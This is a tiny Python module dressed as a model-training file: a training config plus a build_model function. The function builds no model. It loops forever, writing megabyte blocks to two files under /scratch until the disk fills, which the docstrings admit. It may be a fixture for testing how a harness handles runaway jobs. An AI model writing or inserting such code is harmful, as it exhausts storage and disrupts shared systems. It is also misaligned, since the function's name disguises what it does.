"""Fills the disk."""

TRAINING = {"epochs": 2, "batch_size": 64}


def build_model(input_shape, num_classes):
    """Write until there is no room left."""
    block = b"0" * 2**20
    with open("/scratch/one", "wb") as one, open("/scratch/two", "wb") as two:
        while True:
            one.write(block)
            two.write(block)
